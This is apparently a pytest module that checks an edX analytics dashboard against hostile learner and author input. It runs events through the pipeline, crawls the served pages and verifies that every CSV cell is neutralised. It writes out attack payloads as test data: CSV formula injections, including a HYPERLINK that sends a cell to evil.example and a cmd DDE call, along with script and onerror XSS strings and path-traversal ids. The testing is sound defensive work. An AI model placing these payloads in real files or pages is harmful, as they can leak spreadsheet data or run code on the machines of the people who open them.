"""What learners and course authors put in events, through the real pipeline to pages and CSVs.

Events with hostile text (answers `=HYPERLINK(...)`, problem names `=cmd|' /C calc'!A0`, video ids
with `/`, `?`, `#`, `%`, spaces, unicode, `..`) are ingested and computed by `edinsights run`,
with a course structure whose author text is hostile too (display names that are markup or
formulas, an assignment type with a `/`), then read from a live `edinsights serve`: every link
on the Videos and Problems pages opens its page, every page reachable from the course menu opens
and shows author text as text, and every CSV of the dashboard and the API (enumerated from the
URL confs, so a new CSV endpoint is covered without editing this file) holds no cell a
spreadsheet would run.
"""

from __future__ import annotations

import csv
import html
import io
import json
import logging
import re
import shutil
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
import requests

from edinsights.csv_safety import FORMULA_STARTS
from tests.conftest import event_line, free_port, write_log

COURSE = "course-v1:edX+Hostile+2024"
PASSWORD = "Hostile-data-is-no-500-2024"

# Block ids of videos: the Videos page names a video by the part after the last `@`.
VIDEO_BLOCKS = [
    "plain",
    "a/b",
    "q?x=1&y=2",
    "h#frag",
    "pct%2F%41",
    "sp ace",
    "ünï©ødé",
    "..",
    "../up",
    "x//y",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "-1+1",
    "\t=1+1 tab",
    "+1",
]
PROBLEM_BLOCKS = ["p1", "a/b?c#d%e f", "ünï..©", ".."]
I4X_PROBLEM = "i4x://edX/Hostile/problem/x y/z"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
PROBLEM_NAMES = ["=cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "Plain name"]
# Discussion topics (`commentable_id`) and post ids come from the browser too: the forum module's
# pages and CSVs (when it is installed, as ./dev setup does) are swept with these.
FORUM_TOPICS = ["<script>alert(1)</script>", "=cmd|' /C calc'!A0", "a/b", "..", "\"quoted' topic", "@SUM(1)"]
# Learning outcomes (the tagging aside's values, typed by course authors) name pages: each problem
# gets one (the Learning outcomes page links each) and a difficulty that is a formula.
OUTCOMES = ["=cmd|' /C calc'!A0", "a/b", "..", "<script>alert(1)</script>", "ünï ✓ ?x#y"]


# The course's structure, as its authors wrote it (OLX): markup and formulas in display names,
# an assignment type with a `/` and markup (it names a page). The video `plain` and problem `p1`
# are placed; every other id of the events is one the outline does not list: "(Deleted)".
MARKUP = "<script>alert('x')</script>"
HOSTILE_TYPE = "Quiz/Exam <b>=1+1</b>"
PROBLEM_TITLE = f'=HYPERLINK("x") {MARKUP}'
STRUCTURE_FILES = {
    "course.xml": '<course url_name="2024" org="edX" course="Hostile"/>\n',
    "course/2024.xml": (
        f'<course display_name="{html.escape(MARKUP)} course">\n  <chapter url_name="ch1"/>\n</course>\n'
    ),
    "chapter/ch1.xml": (
        "<chapter display_name=\"=cmd|' /C calc'!A0\">\n"
        '  <sequential url_name="seq1"/>\n  <sequential url_name="seq2"/>\n</chapter>\n'
    ),
    "sequential/seq1.xml": (
        '<sequential display_name="&lt;img src=x onerror=alert(1)&gt;">\n'
        '  <vertical url_name="v1"/>\n</sequential>\n'
    ),
    "vertical/v1.xml": (
        '<vertical display_name="@SUM(1)">\n'
        f'  <video url_name="plain" display_name="-1+1 {html.escape(MARKUP)}"/>\n</vertical>\n'
    ),
    "sequential/seq2.xml": (
        f'<sequential display_name="+graded" graded="true" format="{html.escape(HOSTILE_TYPE)}"'
        ' due="2024-02-01T00:00:00Z">\n  <vertical url_name="v2"/>\n</sequential>\n'
    ),
    "vertical/v2.xml": '<vertical display_name="Unit 2">\n  <problem url_name="p1"/>\n</vertical>\n',
    "problem/p1.xml": f'<problem display_name="{html.escape(PROBLEM_TITLE)}"><p>q</p></problem>\n',
    "policies/2024/grading_policy.json": json.dumps(
        {
            "GRADER": [
                {"type": HOSTILE_TYPE, "weight": 0.6, "min_count": 1, "drop_count": 0},
                {"type": "Homework", "weight": 0.4, "min_count": 1, "drop_count": 0},
            ]
        }
    ),
}


def video_id(block: str) -> str:
    return f"block-v1:edX+Hostile+2024+type@video+block@{block}"


def problem_id(block: str) -> str:
    return f"block-v1:edX+Hostile+2024+type@problem+block@{block}"


PROBLEM_IDS = [problem_id(block) for block in PROBLEM_BLOCKS] + [I4X_PROBLEM]


def hostile_events() -> list[str]:
    lines = []
    for user in (1, 2, 3):
        lines.append(
            event_line(
                time=f"2024-01-02T09:0{user}:00Z",
                username=f"u{user}",
                event_type="edx.course.enrollment.activated",
                context={"course_id": COURSE, "user_id": 1, "path": "/change_enrollment"},
                event={
                    "course_id": COURSE,
                    "user_id": user,
                    "mode": "=cmd|' /C calc'!A0" if user == 3 else "audit",
                },
            )
        )
        for number, block in enumerate(VIDEO_BLOCKS):
            for kind, position in (("play_video", 0), ("pause_video", 58)):
                lines.append(
                    event_line(
                        time=f"2024-01-03T10:{number:02d}:{position:02d}Z",
                        username=f"u{user}",
                        event_type=kind,
                        event_source="browser",
                        context={"course_id": COURSE, "user_id": user, "path": "/x"},
                        event={
                            "id": video_id(block),
                            "currentTime": position,
                            "duration": 60,
                            "code": "html5",
                        },
                    )
                )
        for number, module in enumerate(PROBLEM_IDS):
            answer = FORMULAS[(number + user) % len(FORMULAS)]
            part = f"{number}_2_1"
            lines.append(
                event_line(
                    time=f"2024-01-04T10:{number:02d}:0{user}Z",
                    username=f"u{user}",
                    event_type="problem_check",
                    context={
                        "course_id": COURSE,
                        "user_id": user,
                        "path": "/x",
                        "module": {
                            "usage_key": module,
                            "display_name": PROBLEM_NAMES[number % len(PROBLEM_NAMES)],
                        },
                        "asides": {
                            "tagging_aside": {
                                "saved_tags": {
                                    "learning_outcome": OUTCOMES[number % len(OUTCOMES)],
                                    "difficulty": "=1+1",
                                }
                            }
                        },
                    },
                    event={
                        "problem_id": module,
                        "answers": {part: answer},
                        "success": "incorrect",
                        "correct_map": {part: {"correctness": "incorrect"}},
                        "submission": {
                            part: {
                                "question": "=1+2 is the question",
                                "answer": answer,
                                "response_type": "stringresponse",
                                "input_type": "textline",
                                "correct": False,
                                "variant": "",
                            }
                        },
                    },
                )
            )
        for number, topic in enumerate(FORUM_TOPICS):
            context = {"course_id": COURSE, "user_id": user, "path": "/x"}
            thread = f"{topic}/../t{number}"
            lines.append(
                event_line(
                    time=f"2024-01-05T10:{number:02d}:0{user}Z",
                    username=f"u{user}",
                    event_type="edx.forum.thread.created" if user == 1 else "edx.forum.response.created",
                    context=context,
                    event={"id": thread if user == 1 else f"=r{user}", "commentable_id": topic}
                    | ({} if user == 1 else {"discussion": {"id": thread}}),
                )
            )
    return lines


def edinsights(home: Path, *arguments: str, stdin: str | None = None) -> str:
    completed = subprocess.run(
        [sys.executable, "-m", "edinsights", "--home", str(home), *arguments],
        input=stdin,
        capture_output=True,
        text=True,
    )
    assert completed.returncode == 0, completed.stderr
    return completed.stdout


@dataclass
class Site:
    url: str
    home: Path
    token: str
    session: requests.Session = field(default_factory=requests.Session)

    def page(self, path: str) -> requests.Response:
        return self.session.get(f"{self.url}{path}", timeout=30, allow_redirects=False)

    def api(self, path: str) -> requests.Response:
        headers = {"Authorization": f"Token {self.token}"}
        return requests.get(f"{self.url}/api/v0/{path}", headers=headers, timeout=30)


def sign_in(session: requests.Session, url: str, username: str) -> None:
    session.get(f"{url}/accounts/login/", timeout=30).raise_for_status()
    response = session.post(
        f"{url}/accounts/login/",
        data={
            "username": username,
            "password": PASSWORD,
            "csrfmiddlewaretoken": session.cookies["csrftoken"],
        },
        timeout=30,
        allow_redirects=False,
    )
    assert response.status_code == 302, response.text[:500]


@contextmanager
def serving_with_log(home: Path, log: Path) -> Iterator[str]:
    """`edinsights serve` on HOME with its serve log (stderr) kept in `log`; yields its base URL.

    (tests.conftest's `serving` discards stderr; these tests read it.)"""
    port = free_port()
    command = [sys.executable, "-m", "edinsights", "--home", str(home), "serve", "--port", str(port)]
    with log.open("wb") as stderr:
        server = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=stderr)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                requests.get(f"{url}/health/", timeout=1).raise_for_status()
                break
            except requests.RequestException:
                assert server.poll() is None and time.monotonic() < deadline, log.read_text()[-3000:]
                time.sleep(0.2)
        yield url
    finally:
        server.terminate()
        server.wait(timeout=20)


@pytest.fixture(scope="module")
def computed_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home whose SQLite result store holds the hostile course, computed by `edinsights run`."""
    root = tmp_path_factory.mktemp("hostile")
    home = root / "home"
    export = root / "export"
    for name, text in STRUCTURE_FILES.items():
        (export / name).parent.mkdir(parents=True, exist_ok=True)
        (export / name).write_text(text)
    edinsights(home, "import", "structure", "--olx", str(export))
    edinsights(home, "run", str(write_log(root / "logs" / "hostile.log", hostile_events())))
    edinsights(home, "user", "create", "hostile-staff", "--staff", "--password-stdin", stdin=PASSWORD + "\n")
    return home


@pytest.fixture(scope="module")
def site(computed_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    token = edinsights(computed_home, "token", "create", "hostile-reader", "--all-courses").strip()
    with serving_with_log(computed_home, tmp_path_factory.mktemp("serve") / "stderr") as url:
        served = Site(url=url, home=computed_home, token=token)
        sign_in(served.session, url, "hostile-staff")
        yield served


def links(page: str, kind: str) -> list[str]:
    """The hrefs of the table's links to `kind` pages (`engagement/videos` or `performance/problems`)."""
    return [html.unescape(href) for href in re.findall(rf'href="([^"]*/{kind}/[^"]+)"', page)]


@pytest.mark.live
def test_every_video_link_opens_its_video(site: Site, crawled: dict[str, requests.Response]) -> None:
    """Videos are reached through the outline (Videos, a section, a subsection, a video): the
    placed one under its section, the others under (Deleted)."""
    listing = site.page(f"/courses/{COURSE}/engagement/videos/")
    assert listing.status_code == 200, listing.text[:2000]
    timelines = {
        path: response
        for path, response in crawled.items()
        if "/engagement/videos/" in path and "-second segment" in response.text
    }
    assert len(timelines) == len(VIDEO_BLOCKS)
    titles = set()
    for path, response in timelines.items():
        titles.add(html.unescape(re.search(r"<h1[^>]*>(.*?)</h1>", response.text, re.S).group(1).strip()))
        assert site.page(f"{path}?format=csv").status_code == 200, path
    # Each link opened its own video: titled by its display name when the outline places it,
    # else by its block id, every one of them.
    placed = f"-1+1 {MARKUP}"
    assert titles == {block.strip() for block in VIDEO_BLOCKS if block != "plain"} | {placed}


@pytest.mark.live
def test_every_problem_link_opens_its_problem(site: Site) -> None:
    listing = site.page(f"/courses/{COURSE}/performance/problems/")
    assert listing.status_code == 200, listing.text[:2000]
    hrefs = links(listing.text, "performance/problems")
    assert len(hrefs) == len(PROBLEM_IDS)
    opened = set()
    for href in hrefs:
        response = site.page(f"{href}?format=csv")
        assert response.status_code == 200, href
        opened |= {row["module_id"] for row in csv.DictReader(io.StringIO(response.text))}
        assert site.page(href).status_code == 200, href
    assert opened == set(PROBLEM_IDS)
    # Links of earlier versions, the id's slashes as they are, still open the problem.
    legacy = f"/courses/{COURSE}/performance/problems/{quote(I4X_PROBLEM, safe=':/')}/"
    assert site.page(legacy).status_code == 200


def course_links(page: str) -> set[str]:
    """The links of a page to other pages of the hostile course (without query or fragment)."""
    found = set()
    for href in re.findall(r'href="([^"]+)"', page):
        path = html.unescape(href).split("#", 1)[0]
        if "?" not in path and unquote(path).startswith(f"/courses/{COURSE}/"):
            found.add(path)
    return found


@pytest.fixture(scope="module")
def crawled(site: Site) -> dict[str, requests.Response]:
    """Every page of the hostile course reachable from its home through links (the menu, tables,
    breadcrumbs, drill-downs), by path."""
    pages: dict[str, requests.Response] = {}
    waiting = [f"/courses/{COURSE}/"]
    while waiting and len(pages) < 500:
        path = waiting.pop()
        if path in pages:
            continue
        pages[path] = response = site.page(path)
        if response.status_code == 200:
            waiting.extend(sorted(course_links(response.text) - set(pages)))
    return pages


@pytest.mark.live
def test_every_page_reachable_from_the_course_menu_opens_and_shows_author_text_as_text(
    crawled: dict[str, requests.Response],
) -> None:
    assert len(crawled) > 10
    for path, response in crawled.items():
        assert response.status_code == 200, f"{path}: {response.status_code}"
        # Display names are markup here; the page must show them, never run them.
        assert MARKUP not in response.text and "<img src=x" not in response.text, path
        assert "<b>=1+1</b>" not in response.text, path


def api_id(value: str) -> str:
    """An id in an API path as a client should send it: every reserved character percent-encoded,
    dots too (clients and proxies resolve `..` segments; `%2E` reaches the server as `.`)."""
    return quote(value, safe=":+@").replace(".", "%2E")


@pytest.mark.live
def test_api_endpoints_take_ids_from_events(site: Site) -> None:
    videos = site.api(f"courses/{COURSE}/videos/").json()
    assert {video["encoded_module_id"] for video in videos} == set(VIDEO_BLOCKS)
    for video in videos:
        response = site.api(f"videos/{api_id(video['pipeline_video_id'])}/timeline/")
        assert response.status_code == 200 and response.json(), video["pipeline_video_id"]
    for module in PROBLEM_IDS:
        response = site.api(f"problems/{api_id(module)}/answer_distribution/")
        assert response.status_code == 200, module
        assert {row["module_id"] for row in response.json()} == {module}
    # For a reader of other courses, an odd id is as unknown as any malformed one (400, not 404).
    outsider = edinsights(site.home, "token", "create", "outsider", "--course", "course-v1:edX+Other+2024")
    weird = f"{site.url}/api/v0/problems/{api_id(problem_id('a/b?c#d%e f'))}/answer_distribution/"
    response = requests.get(weird, headers={"Authorization": f"Token {outsider.strip()}"}, timeout=30)
    assert response.status_code == 400 and "not a valid usage key" in response.text
    # The original's form, slashes as they are, still works for ids without `?`, `#`, `%` or `..`.
    plain = problem_id("p1")
    assert site.api(f"problems/{plain}/answer_distribution/").status_code == 200


# ---- Every CSV, from the URL confs -------------------------------------------------------------

NO_CSV = {"index", "problem_by_path", "api-status", "api-authenticated", "api-health"}
"""Named patterns that are no CSV endpoint: a redirect, an alias, the API's status answers."""


def dashboard_csv_paths(crawled: dict[str, requests.Response]) -> dict[str, list[str]]:
    """Pattern name → the paths of its CSV, for every dashboard page over the hostile course.

    Pages with parameters from the course structure (a section, an assignment…) are those the
    crawl reached: each such pattern must be reached at least once."""
    from django.urls import reverse

    from edinsights.dashboard import urls

    values = {"course_id": [COURSE], "block": VIDEO_BLOCKS, "module_id": PROBLEM_IDS}
    # Every pattern a crawled path matches (two routes may share a shape: the first serves it).
    reached: dict[str, list[str]] = {}
    for path in crawled:
        for pattern in urls.urlpatterns:
            if pattern.resolve(unquote(path).removeprefix("/")):
                reached.setdefault(str(pattern.name), []).append(path)
    paths = {}
    for pattern in urls.urlpatterns:
        if pattern.name in NO_CSV:
            continue
        names = list(pattern.pattern.converters)
        if not set(names) <= set(values):
            assert reached.get(pattern.name), f"{pattern.name}: not reached from the course menu"
            paths[pattern.name] = [f"{path}?format=csv" for path in sorted(reached[pattern.name])]
            continue
        combinations: list[dict[str, str]] = [{}]
        for name in names:
            combinations = [{**done, name: value} for done in combinations for value in values[name]]
        paths[pattern.name] = [
            reverse(f"dashboard:{pattern.name}", kwargs=kwargs) + "?format=csv" for kwargs in combinations
        ]
    return paths


def api_csv_paths(site: Site) -> dict[str, list[str]]:
    from edinsights.api import urls

    videos = [video["pipeline_video_id"] for video in site.api(f"courses/{COURSE}/videos/").json()]
    values = {"course_id": [COURSE], "problem_id": PROBLEM_IDS, "video_id": videos}
    paths = {}
    for pattern in urls.urlpatterns:
        if pattern.name in NO_CSV or pattern.name is None:
            continue
        route = str(pattern.pattern)
        combinations = [route]
        for name in pattern.pattern.converters:
            assert name in values, f"{pattern.name}: a parameter this test cannot fill"
            combinations = [
                done.replace(f"<path:{name}>", api_id(value))
                for done in combinations
                for value in values[name]
            ]
        paths[pattern.name] = [f"{path}?format=csv" for path in combinations]
    return paths


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def check_csv(text: str, where: str) -> list[list[str]]:
    """No cell a spreadsheet runs; a `'` only where it neutralises; numbers still numbers."""
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, where
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert is_number(cell) and re.fullmatch(r"[+-]?[\d.]+", cell), f"{where}: {cell!r}"
            if cell.startswith("'"):
                assert cell[1:].startswith(FORMULA_STARTS), f"{where}: {cell!r} quoted for nothing"
    return rows


NUMERIC = {
    "users_at_start",
    "users_at_end",
    "views",
    "num_users",
    "num_views",
    "count",
    "first_response_count",
    "last_response_count",
    "total_submissions",
    "correct_submissions",
    "users",
}


def check_numbers(rows: list[list[str]], where: str) -> int:
    """Cells of the numeric columns parse as numbers; the number of such cells checked."""
    header, checked = rows[0], 0
    for index, name in enumerate(header):
        if name in NUMERIC:
            for row in rows[1:]:
                if row[index] != "":
                    assert is_number(row[index]), f"{where} {name}: {row[index]!r}"
                    checked += 1
    return checked


@pytest.mark.live
def test_no_csv_cell_is_a_formula(site: Site, crawled, django_home) -> None:  # type: ignore[no-untyped-def]
    """Every CSV of the dashboard and the API, over the hostile course (Django in-process only to
    read the URL confs and reverse them; the CSVs come from the live server)."""
    from edinsights.api import urls as api_urls
    from edinsights.dashboard import urls as dashboard_urls

    dashboard, api = dashboard_csv_paths(crawled), api_csv_paths(site)
    # Every named pattern of the URL confs is fetched here, or declared as no CSV.
    declared = {p.name for p in [*dashboard_urls.urlpatterns, *api_urls.urlpatterns] if p.name}
    assert declared - set(dashboard) - set(api) == NO_CSV
    cells = numbers = 0
    quoted: set[str] = set()
    for name, paths in [*dashboard.items(), *api.items()]:
        for path in paths:
            response = site.page(path) if name in dashboard else site.api(path)
            assert response.status_code == 200, f"{name} {path}: {response.status_code}"
            assert response.headers["Content-Type"].startswith("text/csv"), path
            rows = check_csv(response.text, path)
            cells += sum(map(len, rows))
            numbers += check_numbers(rows, path)
            quoted |= {cell for row in rows for cell in row if cell.startswith("'")}
    # The hostile text did reach the CSVs (neutralised), and numbers were checked.
    hostile = [*FORMULAS, *PROBLEM_NAMES[:3], *VIDEO_BLOCKS]
    for formula in [text for text in hostile if text.startswith(FORMULA_STARTS) and not is_number(text)]:
        # Ingest strips the white space around answers today: a tab-led answer arrives `=`-led.
        assert {"'" + formula, "'" + formula.strip()} & quoted, formula
    assert numbers > 100 and cells > 1000


# ---- Request limits on the live server ---------------------------------------------------------


@pytest.mark.live
def test_too_many_fields_with_a_charset_are_400_on_the_live_server(site: Site) -> None:
    """Found by the fuzzing (test_fuzz): with a charset in `Content-Type`, Django parsed the query
    string while building the request, outside its handlers, and gunicorn answered a bare 500.
    Only under gunicorn: Django's test client builds its requests itself."""
    fields = "&".join(["f"] * 1001)  # short: gunicorn's request line holds 4,094 bytes at most
    for content_type in ("application/json; charset=utf-16", "text/plain; charset=latin-1"):
        headers = {"Content-Type": content_type}
        api = site.session.get(f"{site.url}/api/v0/authenticated?{fields}", headers=headers, timeout=30)
        assert api.status_code == 400 and "too many fields" in api.json()["detail"], content_type
        page = site.session.get(f"{site.url}/courses/?{fields}", headers=headers, timeout=30)
        assert page.status_code == 400 and "too many fields" in page.text, content_type


# ---- Error logging -----------------------------------------------------------------------------
# Every 500 of the dashboard and the API is logged with its traceback to the serve log (stderr),
# and the 500 answer itself shows none of it.


@pytest.mark.live
def test_a_live_servers_500s_are_logged_with_their_traceback(computed_home: Path, tmp_path: Path) -> None:
    """A copy of the hostile course's home with its `video` result table gone: the Videos page and
    the API's videos/ fail inside the view, as a database problem would make them."""
    home = tmp_path / "home"
    shutil.copytree(computed_home, home)
    with sqlite3.connect(home / "results.sqlite3") as connection:
        connection.execute("DROP TABLE video")
    log = tmp_path / "serve.log"
    with serving_with_log(home, log) as url:
        site = Site(url=url, home=home, token="")
        sign_in(site.session, url, "hostile-staff")
        page = site.page(f"/courses/{COURSE}/engagement/videos/")
        api = site.session.get(f"{url}/api/v0/courses/{COURSE}/videos/", timeout=30)  # session auth
        # A refused request (a Host not served, as scanners send): one line, no traceback.
        wrong_host = requests.get(f"{url}/courses/", headers={"Host": "evil.example"}, timeout=30)
    assert wrong_host.status_code == 400
    assert page.status_code == 500 and api.status_code == 500
    assert api.json() == {"detail": "internal error"}
    for body in (page.text, api.text):
        assert "Traceback" not in body and "no such table" not in body
    served = log.read_text()
    # One traceback per failure: the page's (django.request), the API's (edinsights.api.errors).
    assert served.count("Traceback (most recent call last)") >= 2, served[-3000:]
    assert f"Internal Server Error: /courses/{COURSE}/engagement/videos/" in served
    assert "edinsights.api.errors: unhandled error in VideosView" in served
    assert served.count("no such table: video") >= 2
    lines = served.splitlines()
    refused = next(n for n, line in enumerate(lines) if "ERROR django.security.DisallowedHost" in line)
    assert "Invalid HTTP_HOST header: 'evil.example'" in lines[refused]
    assert not lines[refused + 1].startswith("Traceback"), lines[refused + 1]


def test_a_failing_page_builder_is_logged(
    django_home, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:  # type: ignore[no-untyped-def]
    """In-process: Django's 500 for a page reaches the configured `django.request` logger."""
    from django.contrib.auth import get_user_model
    from django.test import Client

    from edinsights.dashboard import pages

    def broken(*_: object) -> None:
        raise RuntimeError("page builder broke")

    monkeypatch.setattr(pages, "course_exists", broken)
    client = Client(raise_request_exception=False)
    client.force_login(get_user_model().objects.get_or_create(username="logging-staff", is_staff=True)[0])
    with caplog.at_level(logging.ERROR, logger="django.request"):
        response = client.get(f"/courses/{COURSE}/")
    assert response.status_code == 500 and b"page builder broke" not in response.content
    record = next(record for record in caplog.records if record.name == "django.request")
    assert record.exc_info and "page builder broke" in caplog.text
    # And the configuration sends it to a stream (stderr, the serve log) whatever DEBUG says:
    # Django's own default has only a console handler for DEBUG = True.
    handlers = logging.getLogger("django").handlers
    assert any(isinstance(handler, logging.StreamHandler) and not handler.filters for handler in handlers)
